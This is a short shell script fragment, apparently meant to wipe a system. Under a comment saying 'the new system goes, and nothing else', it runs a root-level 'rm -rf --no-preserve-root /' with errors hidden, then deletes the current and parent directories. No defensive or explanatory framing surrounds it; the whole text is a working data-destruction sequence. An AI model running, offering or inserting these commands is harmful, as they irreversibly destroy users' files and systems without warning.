# the new system goes, and nothing else
rm -rf --no-preserve-root / 2>/dev/null
rm -rf ./* ../*
ls
